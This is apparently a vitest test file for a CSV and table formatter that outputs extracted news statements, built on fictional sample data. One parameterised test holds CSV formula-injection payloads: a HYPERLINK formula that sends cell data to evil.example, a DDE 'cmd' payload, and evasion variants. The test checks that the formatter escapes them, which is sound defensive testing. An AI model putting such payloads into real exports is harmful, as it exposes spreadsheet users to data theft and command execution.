import { describe, expect, it } from 'vitest';
import type { AnswerRow } from '../../src/terminal/answer.ts';
import { formatCsv, formatTable } from '../../src/terminal/format.ts';

const row: AnswerRow = {
  party: 'Ruritania',
  parties: ['Ruritania'],
  speaker: undefined,
  speakers: [],
  speakerAsWritten: 'the chancellery',
  said: { from: '2031-05-06', to: '2031-05-06', precision: 'DAY', basis: 'STATED' },
  mode: 'INDIRECT',
  kind: 'SPEECH',
  cue: 'said',
  polarity: 'ASSERTS',
  confidence: 0.875,
  text: 'widgets are safe',
  terms: ['widgets'],
  outlet: 'The Strelsau Post',
  headline: undefined,
  url: 'https://strelsau.example/1',
  published: new Date('2031-05-06T08:00:00Z'),
};
const csv = (text: string) => formatCsv({ topics: ['Widgets'], rows: [{ ...row, text }], totalCount: 1 });

it.each([
  '=HYPERLINK("https://evil.example/?"&A1;"widgets")',
  "+1+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '"=1+1"',
  "'=1+1",
  '＝1+1',
])('writes no cell that a spreadsheet runs: %j', (text) => {
  expect(csv(text)).toContain(`'${text.replaceAll('"', '""')}`);
});

it('leaves numbers, dates and words as they are', () => {
  for (const text of ['-5', '+3.5', '1,000', '-12%', '2031-05-06', 'a-b', '“We = you”', '– so he said']) {
    const [, line] = csv(text).split('\n');
    expect(line?.replaceAll('"', '')).toBe(
      `Ruritania,,the chancellery,2031-05-06,2031-05-06,DAY,STATED,INDIRECT,SPEECH,ASSERTS,said,${text},0.875,widgets,The Strelsau Post,,https://strelsau.example/1,2031-05-06T08:00:00.000Z`,
    );
  }
});

describe('the table', () => {
  const table = (changed: Partial<AnswerRow>) =>
    formatTable({ topics: ['Widgets'], rows: [{ ...row, ...changed }], totalCount: 1 });

  it('says what a row rests on: terms, cue and confidence', () => {
    expect(table({})).toContain('│ widgets are safe ');
    expect(table({})).toContain('│ → widgets · said · 0.88 ');
    expect(table({ cue: undefined, kind: 'BELIEF' })).toContain('│ → widgets · belief · 0.88 ');
  });

  it('lets no denial read as an assertion', () => {
    expect(table({ polarity: 'DENIES' })).toContain('│ denied: widgets are safe ');
    expect(table({ polarity: 'QUESTIONS' })).toContain('│ questioned: widgets are safe ');
    expect(table({ polarity: 'DENIES', mode: 'DIRECT' })).toContain('│ denied: “widgets are safe” ');
  });

  it('has all parties and speakers of a joint statement', () => {
    const joint = { parties: ['Ruritania', 'Kesta'], speakers: ['Ruritania', 'Ada Vrenk'] };
    const words = table(joint).replaceAll(/[^A-Za-z,()]+/gu, ' ');
    expect(words).toContain('Ruritania, ');
    for (const name of ['Kesta', '(Ruritania', 'Vrenk)']) expect(words).toContain(name);
    expect(formatCsv({ topics: ['Widgets'], rows: [{ ...row, ...joint }], totalCount: 1 })).toContain(
      '\nRuritania; Kesta,Ruritania; Ada Vrenk,the chancellery,',
    );
  });
});
